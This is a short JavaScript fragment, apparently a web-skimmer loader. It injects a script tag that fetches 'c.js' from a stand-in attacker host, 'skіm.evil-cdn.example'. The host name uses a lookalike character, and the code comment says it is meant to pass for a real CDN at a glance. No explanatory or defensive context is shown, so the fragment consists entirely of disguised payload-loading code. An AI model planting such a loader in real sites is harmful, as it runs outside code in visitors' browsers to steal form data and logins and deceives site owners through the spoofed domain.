// looks like the real CDN at a glance
var s = document.createElement('script');
s.src = 'https://skіm.evil-cdn.example/c.js';
document.head.appendChild(s);
